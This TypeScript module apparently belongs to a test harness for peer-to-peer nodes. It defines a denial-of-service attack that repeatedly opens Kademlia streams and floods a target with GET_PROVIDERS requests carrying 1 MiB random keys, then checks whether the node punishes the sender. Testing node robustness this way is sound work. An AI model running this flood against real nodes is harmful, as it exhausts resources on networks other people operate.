/** Questions for keys of a megabyte, each of which costs a hash and a distance to everything known. */

import { randomBytes } from "node:crypto";
import { type Attack, keepOpening, persist } from "../attack.ts";
import { nameOf, pour } from "../peer.ts";
import { KAD, kademlia } from "../wire.ts";

const KEY_BYTES = 1024 * 1024;

export const attack: Attack = {
  claim: "GET_PROVIDERS for keys of 1 MiB, greeted",
  isPunished: true,
  run: (context) =>
    persist(
      context,
      async (peer) => {
        await keepOpening(context, peer, nameOf(context.target.chain, "kad"), async (stream) => {
          const length = Buffer.from([0x80, 0x80, 0x40]);
          const key = Buffer.concat([Buffer.from([1, 0x55, 0]), length, randomBytes(KEY_BYTES)]);
          context.count("messages");
          if (await pour(stream, kademlia(KAD.getProviders, key))) await stream.close();
        });
      },
      true,
    ),
};
